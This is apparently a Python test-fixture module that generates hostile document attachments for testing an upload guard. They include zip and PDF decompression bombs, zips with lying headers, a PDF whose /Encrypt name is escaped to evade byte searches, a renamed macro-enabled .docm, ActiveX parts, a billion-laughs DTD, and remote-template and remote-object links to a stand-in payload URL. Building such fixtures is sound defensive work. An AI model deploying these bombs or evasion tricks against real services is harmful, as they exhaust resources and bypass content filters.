"""Generators of broken and hostile attachments (and two good ones), built in memory in milliseconds.

Bombs are built without ever holding what they inflate to: a deflate stream of zeros is one compressed
megabyte ended by a full flush (which resets the compressor's history), repeated as often as needed, then
an empty final block. Zips whose headers must lie are written by hand (:func:`zip_bytes`); compound files
(legacy Office, a password-protected .docx) by :func:`compound_file`, a minimal [MS-CFB] writer.
"""

from __future__ import annotations

import io
import math
import random
import re
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

import docx
from docx.opc.constants import RELATIONSHIP_TYPE as RT
from pypdf import PdfWriter

from sandbox.forms import applicant, blue_badge_pdf

MB = 1024 * 1024
_CHUNK = MB

WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
VBA_PROJECT = "application/vnd.ms-office.vbaProject"
ACTIVEX = "application/vnd.ms-office.activeX+xml"
MS_RELATIONSHIPS = "http://schemas.microsoft.com/office/2006/relationships"
OFFICE_RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE_RELATIONSHIPS = "http://schemas.openxmlformats.org/package/2006/relationships"
REMOTE = "http://198.51.100.7/payload"  # TEST-NET-2: never routed, and nothing here fetches it anyway


# --- the good cases ----------------------------------------------------------------------------------------
def good_pdf(seed: int = 1) -> bytes:
    """A filled-in Blue Badge application, as the council's form produces it."""
    return blue_badge_pdf(applicant(random.Random(seed)))


def good_docx(seed: int = 1, *, hyperlink: bool = False) -> bytes:
    """A simple Word form: a heading and a two-column table of labels and answers."""
    person = applicant(random.Random(seed))
    document = docx.Document()
    document.add_heading("Application for a Blue Badge", level=1)
    table = document.add_table(rows=0, cols=2)
    for name, value in person.items():
        row = table.add_row().cells
        row[0].text, row[1].text = name, str(value)
    if hyperlink:  # an ordinary link to guidance: external, but nothing ever fetches it
        document.part.relate_to("https://www.gov.uk/government/publications/blue-badge", RT.HYPERLINK, True)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


# --- deflate streams that inflate to far more than they hold -------------------------------------------------
def _zeros_blocks(total: int) -> bytes:
    """Raw deflate blocks (not final) that inflate to ``total`` zero bytes (a multiple of 1 MB)."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = compressor.compress(bytes(_CHUNK)) + compressor.flush(zlib.Z_FULL_FLUSH)
    return block * (total // _CHUNK)


def _final_block() -> bytes:
    return zlib.compressobj(9, zlib.DEFLATED, -15).flush()


def raw_deflate_zeros(total: int) -> bytes:
    """A complete raw deflate stream (as in a zip) of ``total`` zeros."""
    return _zeros_blocks(total) + _final_block()


def zlib_zeros(total: int) -> bytes:
    """A complete zlib stream (as in a PDF's FlateDecode) of ``total`` zeros. Adler-32 of n zeros is
    ``(n mod 65521) << 16 | 1``."""
    return b"\x78\xda" + raw_deflate_zeros(total) + struct.pack(">I", (total % 65521) << 16 | 1)


def crc32_zeros(total: int) -> int:
    crc, chunk = 0, bytes(_CHUNK)
    for _ in range(total // _CHUNK):
        crc = zlib.crc32(chunk, crc)
    return crc


# --- PDF ---------------------------------------------------------------------------------------------------
def pdf_bytes(objects: list[bytes]) -> bytes:
    """A PDF of the given object bodies (object 1 is the catalogue), with a correct cross-reference table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def pages_pdf(pages: int, *, indirect_count: bool = False) -> bytes:
    """A PDF of ``pages`` blank pages. ``indirect_count`` stores the page tree's /Count in an object of its
    own (legal, if unusual), so that only walking the tree tells how many pages there are."""
    kids = b" ".join(b"%d 0 R" % (3 + i) for i in range(pages))
    count = b"%d 0 R" % (3 + pages) if indirect_count else b"%d" % pages
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"
    return pdf_bytes(
        [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [%b] /Count %b >>" % (kids, count)]
        + [page] * pages
        + ([b"%d" % pages] if indirect_count else [])
    )


def flate_bomb_pdf(gib: int = 4, layers: int = 3) -> bytes:
    """One page whose content stream inflates to ``gib`` GiB of zeros through ``layers`` FlateDecode filters;
    the file itself is a few kilobytes."""
    stream = zlib_zeros(gib * 1024 * MB)
    for _ in range(layers - 1):
        stream = zlib.compress(stream, 9)
    filters = b" ".join([b"/FlateDecode"] * layers)
    return pdf_bytes(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
            b"<< /Length %d /Filter [%b] >>\nstream\n%b\nendstream" % (len(stream), filters, stream),
        ]
    )


def encrypted_pdf(algorithm: str, user_password: str = "applicant", owner_password: str | None = "council") -> bytes:
    """A one-page PDF encrypted by pypdf's writer: RC4-40, RC4-128, AES-128 or AES-256. An empty
    ``user_password`` gives a PDF anyone can open that still carries an owner password."""
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.encrypt(user_password=user_password, owner_password=owner_password, algorithm=algorithm)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def encrypted_pdf_escaped_name() -> bytes:
    """An owner-password PDF whose trailer spells /Encrypt with a #-escape (/Encr#79pt), which PDF readers
    decode but a byte search for "/Encrypt" misses. Only the trailer changes, so no offset moves."""
    data = encrypted_pdf("AES-128", user_password="")
    trailer = data.rindex(b"trailer")
    return data[:trailer] + data[trailer:].replace(b"/Encrypt", b"/Encr#79pt")


def truncated(data: bytes, keep: float = 0.5) -> bytes:
    return data[: int(len(data) * keep)]


# --- zips written by hand ----------------------------------------------------------------------------------
@dataclass(frozen=True)
class Member:
    """One zip entry as it is written: ``data`` already compressed, ``size`` and ``crc`` as declared."""

    name: str
    data: bytes
    size: int
    crc: int
    method: int = zipfile.ZIP_DEFLATED
    flags: int = 0


def deflated(name: str, content: bytes) -> Member:
    compressor = zlib.compressobj(6, zlib.DEFLATED, -15)
    return Member(name, compressor.compress(content) + compressor.flush(), len(content), zlib.crc32(content))


def zip_bytes(members: list[Member]) -> bytes:
    """A zip archive with exactly the headers given: local headers, central directory, end record."""
    out, directory = bytearray(), bytearray()
    for member in members:
        offset, name = len(out), member.name.encode()
        sizes = (member.crc, len(member.data), member.size, len(name))
        out += struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, member.flags, member.method, 0, 0x21, *sizes, 0)
        out += name + member.data
        directory += struct.pack("<4s6H3I5H2I", b"PK\x01\x02", 20, 20, member.flags, member.method, 0, 0x21, *sizes,
                                 0, 0, 0, 0, 0, offset) + name  # fmt: skip
    start = len(out)
    out += directory
    out += struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, len(members), len(members), len(directory), start, 0)
    return bytes(out)


def docx_members(data: bytes | None = None) -> dict[str, bytes]:
    """The parts of a Word document (by default :func:`good_docx`), by name."""
    with zipfile.ZipFile(io.BytesIO(data or good_docx())) as package:
        return {name: package.read(name) for name in package.namelist()}


def docx_bomb(size: int = 64 * MB) -> bytes:
    """A Word document whose picture honestly declares ``size`` bytes that compress about 1000 to 1."""
    members = [deflated(name, content) for name, content in docx_members().items()]
    blocks = raw_deflate_zeros(size)
    return zip_bytes([*members, Member("word/media/image1.png", blocks, size, crc32_zeros(size))])


def docx_declaring(size: int) -> bytes:
    """A Word document with a part that declares ``size`` bytes (its data is short; a reader would fail)."""
    members = [deflated(name, content) for name, content in docx_members().items()]
    return zip_bytes([*members, Member("word/media/image1.png", raw_deflate_zeros(MB), size, 0)])


def docx_with_many_entries(count: int) -> bytes:
    members = [deflated(name, content) for name, content in docx_members().items()]
    return zip_bytes(members + [deflated(f"customXml/extra{i}.xml", b"<a/>") for i in range(count)])


def lying_docx(gib: int = 2) -> bytes:
    """A Word document whose body declares 20 kB (so the central directory looks harmless) but inflates to
    ``gib`` GiB of zeros. Only a reader that inflates to the end of the data is fooled."""
    members = [deflated(name, content) for name, content in docx_members().items() if name != "word/document.xml"]
    body = Member("word/document.xml", raw_deflate_zeros(gib * 1024 * MB), 20_000, 0)
    return zip_bytes([*members, body])


def lying_index_part(gib: int = 2) -> bytes:
    """A Word document whose [Content_Types].xml declares 1 kB but inflates to ``gib`` GiB: the part the
    guard itself must decompress, in Clerk's own process."""
    members = [deflated(name, content) for name, content in docx_members().items() if name != "[Content_Types].xml"]
    index = Member("[Content_Types].xml", raw_deflate_zeros(gib * 1024 * MB), 1000, 0)
    return zip_bytes([index, *members])


def docx_repacked(change: Callable[[Member], Member]) -> bytes:
    """The good Word document with every member passed through ``change`` (e.g. to set flags or method)."""
    return zip_bytes([change(deflated(name, content)) for name, content in docx_members().items()])


def docx_with_duplicate_part() -> bytes:
    """Two parts named word/document.xml: one reader may take the first, another the second."""
    members = [deflated(name, content) for name, content in docx_members().items()]
    return zip_bytes([*members, deflated("word/document.xml", b"<w:document/>")])


def rezip(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in parts.items():
            package.writestr(name, content)
    return out.getvalue()


def _with_content_types(parts: dict[str, bytes], *, main: str | None = None, extra: str = "") -> None:
    types = parts["[Content_Types].xml"].decode()
    if main:
        types = types.replace(WORD_MAIN, main)
    parts["[Content_Types].xml"] = types.replace("</Types>", extra + "</Types>").encode()


def _with_relationship(parts: dict[str, bytes], rels: str, kind: str, target: str, external: bool = False) -> None:
    mode = ' TargetMode="External"' if external else ""
    element = f'<Relationship Id="rIdClerk{len(parts)}" Type="{kind}" Target="{target}"{mode}/>'
    current = parts.get(
        rels, f'<?xml version="1.0"?><Relationships xmlns="{PACKAGE_RELATIONSHIPS}"></Relationships>'.encode()
    )
    parts[rels] = current.decode().replace("</Relationships>", element + "</Relationships>").encode()


def docm_renamed() -> bytes:
    """A macro-enabled document (.docm) with its VBA project, as Word saves it, sent under a .docx name."""
    parts = docx_members()
    _with_content_types(parts, main=DOCM_MAIN, extra=f'<Default Extension="bin" ContentType="{VBA_PROJECT}"/>')
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0 VBA project stand-in"
    _with_relationship(parts, "word/_rels/document.xml.rels", f"{MS_RELATIONSHIPS}/vbaProject", "vbaProject.bin")
    return rezip(parts)


def docm_main_only() -> bytes:
    """Only the main part's content type says macro-enabled."""
    parts = docx_members()
    _with_content_types(parts, main=DOCM_MAIN)
    return rezip(parts)


def docx_with_vba(*, declared: bool = True) -> bytes:
    """A .docx (ordinary main part) carrying word/vbaProject.bin; ``declared`` adds its content type and
    relationship, otherwise only the part's name gives it away."""
    parts = docx_members()
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0 VBA project stand-in"
    if declared:
        _with_content_types(parts, extra=f'<Override PartName="/word/vbaProject.bin" ContentType="{VBA_PROJECT}"/>')
        _with_relationship(parts, "word/_rels/document.xml.rels", f"{MS_RELATIONSHIPS}/vbaProject", "vbaProject.bin")
    return rezip(parts)


def docx_with_activex(*, folder: str = "word/activeX") -> bytes:
    """An ActiveX control, as Word stores one: its XML part, its binary, and a control relationship."""
    parts = docx_members()
    parts[f"{folder}/activeX1.xml"] = b'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"/>'
    parts[f"{folder}/activeX1.bin"] = b"control state"
    _with_content_types(parts, extra=f'<Override PartName="/{folder}/activeX1.xml" ContentType="{ACTIVEX}"/>')
    relative = folder.removeprefix("word/")
    _with_relationship(
        parts, "word/_rels/document.xml.rels", f"{OFFICE_RELATIONSHIPS}/control", f"{relative}/activeX1.xml"
    )
    return rezip(parts)


def docx_activex_relationship_only() -> bytes:
    """An ActiveX control part under an unusual name, betrayed only by its relationship type."""
    parts = docx_members()
    parts["word/embeddings/ctl1.xml"] = b"<ocx/>"
    _with_relationship(
        parts, "word/_rels/document.xml.rels", f"{MS_RELATIONSHIPS}/activeXControl", "embeddings/ctl1.xml"
    )
    return rezip(parts)


def docx_external_template() -> bytes:
    """Settings that attach a template fetched from another machine when the document opens."""
    parts = docx_members()
    settings = parts["word/settings.xml"].decode()
    settings = re.sub(r"(<w:settings[^>]*>)", r'\1<w:attachedTemplate r:id="rIdTemplate"/>', settings, count=1)
    if 'xmlns:r="' not in settings:
        settings = settings.replace("<w:settings ", f'<w:settings xmlns:r="{OFFICE_RELATIONSHIPS}" ', 1)
    parts["word/settings.xml"] = settings.encode()
    _with_relationship(parts, "word/_rels/settings.xml.rels", f"{OFFICE_RELATIONSHIPS}/attachedTemplate",
                       f"{REMOTE}/template.dotm", external=True)  # fmt: skip
    return rezip(parts)


def docx_remote(kind: str) -> bytes:
    """A picture (``"image"``) or a linked OLE object (``"oleObject"``) loaded from another machine."""
    parts = docx_members()
    _with_relationship(parts, "word/_rels/document.xml.rels", f"{OFFICE_RELATIONSHIPS}/{kind}", f"{REMOTE}/{kind}",
                       external=True)  # fmt: skip
    return rezip(parts)


def docx_with_doctype() -> bytes:
    """A content-types part that starts an XML entity bomb ("billion laughs")."""
    parts = docx_members()
    types = parts["[Content_Types].xml"].decode()
    dtd = '<!DOCTYPE Types [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    parts["[Content_Types].xml"] = re.sub(r"(<\?xml[^>]*\?>)", r"\1" + dtd, types, count=1).encode()
    return rezip(parts)


def xlsx_like() -> bytes:
    """An Office package whose main part is a spreadsheet."""
    types = ('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
             '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.'
             'spreadsheetml.sheet.main+xml"/></Types>')  # fmt: skip
    return rezip({"[Content_Types].xml": types.encode(), "xl/workbook.xml": b"<workbook/>"})


def plain_zip() -> bytes:
    return rezip({"form.pdf": good_pdf(), "notes.txt": b"please see attached"})


def encrypted_docx(password: str = "council") -> bytes:
    """A password-protected Word document as Word writes it: an [MS-OFFCRYPTO] agile-encrypted package
    inside a compound file (made by msoffcrypto-tool, a test dependency)."""
    import msoffcrypto.format.ooxml

    out = io.BytesIO()
    msoffcrypto.format.ooxml.OOXMLFile(io.BytesIO(good_docx())).encrypt(password, out)
    return out.getvalue()


# --- compound files ([MS-CFB], version 3: 512-byte sectors) -------------------------------------------------
_SECTOR = 512
_FREE, _END, _FAT_SECTOR, _DIFAT_SECTOR, _NO_STREAM = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFC, 0xFFFFFFFF
_MINI_CUTOFF = 4096


def compound_file(streams: dict[str, bytes]) -> bytes:
    """A compound file holding ``streams`` in the root storage. Streams are padded to 4 kB so that all live
    in regular sectors (no mini stream); the directory lists them as a chain of right siblings."""
    datas = [content.ljust(_MINI_CUTOFF, b"\0") for content in streams.values()]
    data_sectors = [math.ceil(len(content) / _SECTOR) for content in datas]
    entries = 1 + len(streams)
    dir_sectors = math.ceil(entries * 128 / _SECTOR)
    fat_sectors = difat_sectors = 0
    while True:  # the FAT must also cover its own sectors and the DIFAT's
        total = sum(data_sectors) + dir_sectors + fat_sectors + difat_sectors
        need_fat = math.ceil(total / 128)
        need_difat = math.ceil(max(0, need_fat - 109) / 127)
        if (need_fat, need_difat) == (fat_sectors, difat_sectors):
            break
        fat_sectors, difat_sectors = need_fat, need_difat
    fat = [_FREE] * (fat_sectors * 128)
    body = bytearray()
    starts = []
    for content, count in zip(datas, data_sectors, strict=True):
        start = len(body) // _SECTOR
        starts.append(start)
        for i in range(count):
            fat[start + i] = start + i + 1 if i < count - 1 else _END
        body += content.ljust(count * _SECTOR, b"\0")
    first_dir = len(body) // _SECTOR
    for i in range(dir_sectors):
        fat[first_dir + i] = first_dir + i + 1 if i < dir_sectors - 1 else _END
    names = list(streams)
    directory = _directory_entry("Root Entry", 5, child=1 if names else _NO_STREAM)
    for i, (name, start, content) in enumerate(zip(names, starts, datas, strict=True)):
        right = i + 2 if i + 1 < len(names) else _NO_STREAM
        directory += _directory_entry(name, 2, right=right, start=start, size=len(content))
    body += directory.ljust(dir_sectors * _SECTOR, b"\0")
    first_fat = len(body) // _SECTOR
    fat_locations = list(range(first_fat, first_fat + fat_sectors))
    for location in fat_locations:
        fat[location] = _FAT_SECTOR
    first_difat = first_fat + fat_sectors
    for i in range(difat_sectors):
        fat[first_difat + i] = _DIFAT_SECTOR
    body += struct.pack(f"<{len(fat)}I", *fat)
    overflow = fat_locations[109:]
    for i in range(difat_sectors):
        chunk = overflow[i * 127 : (i + 1) * 127]
        following = first_difat + i + 1 if i < difat_sectors - 1 else _END
        body += struct.pack("<128I", *chunk, *[_FREE] * (127 - len(chunk)), following)
    header_difat = fat_locations[:109] + [_FREE] * (109 - min(109, fat_sectors))
    header = struct.pack(
        "<8s16s5H6s9I109I",
        bytes.fromhex("D0CF11E0A1B11AE1"), bytes(16), 0x3E, 3, 0xFFFE, 9, 6, bytes(6),
        0, fat_sectors, first_dir, 0, _MINI_CUTOFF, _END, 0, first_difat if difat_sectors else _END, difat_sectors,
        *header_difat,
    )  # fmt: skip
    return header + bytes(body)


def _directory_entry(name: str, kind: int, *, child: int = _NO_STREAM, right: int = _NO_STREAM, start: int = _END,
                     size: int = 0) -> bytes:  # fmt: skip
    encoded = name.encode("utf-16-le")
    return struct.pack(
        "<64sHBB3I16sIQQIQ",
        encoded, len(encoded) + 2, kind, 1, _NO_STREAM, right, child, bytes(16), 0, 0, 0, start, size,
    )  # fmt: skip


def legacy_doc(size: int = 8 * 1024) -> bytes:
    """A Word 97-2003 document's structure: WordDocument, 1Table and the summary stream."""
    return compound_file(
        {"WordDocument": b"\xec\xa5" + bytes(size), "1Table": bytes(4096), "\x05SummaryInformation": bytes(4096)}
    )


def outlook_msg() -> bytes:
    """An Outlook message saved as a file (a compound file of __substg1.0_ streams)."""
    subject = "Blue Badge application".encode("utf-16-le")
    return compound_file({"__properties_version1.0": bytes(32), "__substg1.0_0037001F": subject})


def compound_encrypted_package() -> bytes:
    """The two streams that mark an encrypted Office package, written by :func:`compound_file`."""
    return compound_file({"EncryptionInfo": b"\x04\x00\x04\x00", "EncryptedPackage": bytes(8192)})
